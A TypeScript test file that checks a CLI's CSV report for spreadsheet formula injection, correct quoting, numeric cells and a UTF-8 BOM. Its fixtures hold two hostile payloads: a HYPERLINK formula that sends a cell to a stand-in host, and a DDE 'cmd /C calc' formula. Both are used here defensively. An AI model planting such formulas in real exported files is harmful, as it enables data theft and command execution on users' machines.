import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../query/csv.js';
import { runCli, withTempDir } from './helpers.js';
import { HC_A, makeCase, writeSyncedStore } from './cases.fixture.js';

/**
 * `report --format csv` as a spreadsheet reads it: the file is parsed back
 * (RFC 4180, quoted fields with line breaks and doubled quotes) and checked
 * cell by cell. A text cell a spreadsheet would run as a formula (starts
 * with = + - @ TAB CR) carries a leading ', numbers stay numbers, and a file
 * written with --out starts with a UTF-8 byte-order mark.
 */

/** Every record of an RFC 4180 document (CRLF or LF line ends, quotes doubled inside quoted fields). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      // the record ends at the \n
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

const HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"Klik her")';
const CALC = "@SUM(1+1)*cmd|' /C calc'!A0";
const FORMULA_START = /^[=+\-@\t\r]/;

describe('report --format csv for spreadsheets', () => {
  it('neutralises formula cells, keeps numbers, and adds a BOM to files (stdout only with --bom)', async () => {
    await withTempDir(async (dir) => {
      const db = path.join(dir, 'csv.db');
      await writeSyncedStore(db, {
        [HC_A]: [
          makeCase(1, { company: HYPERLINK, state: 'CLOSED' }, [['INCOMING', 0, 'hej'], ['OUTGOING', 30, 'svar', CALC]]),
          makeCase(2, { company: '-2+3' }, [['INCOMING', 0, 'hej'], ['OUTGOING', 5, 'svar', '+45 tal']]),
          makeCase(3, { company: '\tTab Company' }, [['INCOMING', 0, 'hej']]),
          makeCase(4, { company: 'Tømrer & Søn' }, [['INCOMING', 0, 'hej'], ['OUTGOING', 60, 'svar', 'Anna "A" Berg, team 2']]),
          makeCase(5, { company: 'Tømrer & Søn' }, [['INCOMING', 0, 'multi\nline']]),
        ],
      });

      const r = await runCli(['report', '--db', db, '--format', 'csv']);
      expect(r.code).toBe(0);
      expect(r.stdout.startsWith('\ufeff')).toBe(false); // a pipe gets no BOM unless asked
      const rows = parseCsv(r.stdout);
      expect(rows[0]).toEqual(['helpcenter', 'metric', 'key', 'value']);
      for (const row of rows) {
        expect(row, JSON.stringify(row)).toHaveLength(4);
        for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)} of ${JSON.stringify(row)}`).not.toMatch(FORMULA_START);
      }
      const value = (metric: string, key: string) => rows.find((x) => x[1] === metric && x[2] === key)?.[3];
      // the hostile names, each shown as its text, behind a '
      expect(value('top_companies', `'${HYPERLINK}`)).toBe('1');
      expect(value('top_companies', "'-2+3")).toBe('1');
      expect(value('top_companies', "'\tTab Company")).toBe('1');
      expect(value('top_companies', 'Tømrer & Søn')).toBe('2');
      expect(value('outgoing_per_agent', `'${CALC}`)).toBe('1');
      expect(value('outgoing_per_agent', "'+45 tal")).toBe('1');
      expect(value('outgoing_per_agent', 'Anna "A" Berg, team 2')).toBe('1');
      // numbers are numbers: every value cell of a count or duration parses as one
      for (const row of rows.slice(1)) {
        if (row[1] !== 'report' && row[3] !== '') expect(Number.isFinite(Number(row[3])), JSON.stringify(row)).toBe(true);
      }

      const bom = await runCli(['report', '--db', db, '--format', 'csv', '--bom']);
      expect(bom.stdout.startsWith('\ufeffhelpcenter,metric,key,value\r\n')).toBe(true);

      const file = path.join(dir, 'out', 'report.csv');
      const w = await runCli(['report', '--db', db, '--format', 'csv', '--out', file]);
      expect(w.code).toBe(0);
      const bytes = readFileSync(file);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      // the same table as stdout, Danish letters intact in UTF-8
      expect(parseCsv(bytes.toString('utf8').slice(1)).filter((x) => x[1] !== 'report')).toEqual(rows.filter((x) => x[1] !== 'report'));
      expect(bytes.toString('utf8')).toContain('Tømrer & Søn');
    });
  });

  it('csvCell: text that starts like a formula gets a leading quote; numbers never do', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell('1 + 1 = 2')).toBe('1 + 1 = 2');
  });
});
